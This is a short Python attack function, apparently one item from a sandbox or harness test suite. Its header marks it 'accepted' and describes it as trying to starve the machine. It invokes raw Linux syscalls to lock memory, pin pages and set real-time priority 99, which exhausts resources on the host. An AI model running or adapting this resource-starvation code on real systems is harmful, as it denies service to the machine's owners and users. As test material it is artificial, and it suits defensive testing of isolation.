# /// attack
# tries = "Lock memory, use huge pages and real-time scheduling to starve the machine."
# verdicts = ["accepted"]
# ///
def attack(root, worker):
    buffer = ctypes.create_string_buffer(1024 * 1024)
    system_call("mlock", 149, buffer, 1024 * 1024)
    system_call("mlockall", 151, 3)
    system_call("sched_setattr", 314, 0, ctypes.create_string_buffer(56), 0)
    system_call("sched_setparam", 142, 0, ctypes.byref(ctypes.c_int(99)))
    system_call("mbind", 237, buffer, 4096, 0, 0, 0, 0)
    system_call("migrate_pages", 256, 0, 0, 0, 0)
    return LOOT
